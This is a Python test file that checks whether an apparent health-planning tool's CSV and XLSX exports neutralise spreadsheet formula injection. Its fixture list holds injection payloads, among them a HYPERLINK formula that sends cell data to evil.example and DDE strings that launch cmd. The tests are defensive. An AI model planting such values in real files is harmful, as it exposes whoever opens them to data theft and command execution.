"""Exports a spreadsheet opens safely (D15, CSV/formula injection): text starting with
= + - @ is never a live formula in a CSV or XLSX export, and an export reads back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from collection_helpers import small_city
from healthplan.collection import export_values, import_file, import_values
from healthplan.collection.values import RawValue
from healthplan.model.cells import csv_cell, read_csv_cell, xlsx_row
from healthplan.store import Workspace

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_marked_and_unmarked(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert read_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize(
    "value", ["-5", "+1.5e3", "-1,234.5", "-3.2%", "普通备注", "'引号", 5, None]
)
def test_data_is_left_alone(value: object) -> None:
    assert csv_cell(value) == value
    if isinstance(value, str):
        assert read_csv_cell(value) == value


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(xlsx_row(sheet, [HOSTILE[0], 3, "普通"]))
    book.save(tmp_path / "x.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").active["A1"]  # type: ignore[index]
    assert (cell.data_type, cell.value) == ("s", HOSTILE[0])


@pytest.fixture
def stored(tmp_path: Path) -> Workspace:
    ws = Workspace(f"sqlite:///{tmp_path / 'healthplan.db'}", home=tmp_path)
    ws.upgrade()
    small_city(ws, tmp_path)
    import_values(
        ws,
        [
            RawValue("visits", f"2023M0{n + 1}", "a1", n + 1, comment=text, file="v", row=n + 2)
            for n, text in enumerate(HOSTILE[:4])
        ],
    )
    return ws


@pytest.mark.parametrize("fmt", ["csv", "dhis2-csv"])
def test_csv_exports_neutralise_formulas_and_read_back(
    stored: Workspace, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"{fmt}.csv"
    export_values(stored, fmt, out)
    cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-2")]
    assert sum(c.startswith("'") for c in cells) == 4
    fresh = Workspace(f"sqlite:///{tmp_path / 'fresh.db'}", home=tmp_path)
    fresh.upgrade()
    small_city(fresh, tmp_path)
    assert import_file(fresh, out).created == 4
    again = tmp_path / f"again.{fmt}.csv"
    export_values(fresh, fmt, again)
    assert again.read_bytes() == out.read_bytes()


def test_xlsx_export_holds_the_comments_as_text(stored: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "values.xlsx"
    export_values(stored, "xlsx", out)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    comments = [row[5] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in comments} == {"s"}
    assert sorted(str(c.value) for c in comments) == sorted(HOSTILE[:4])
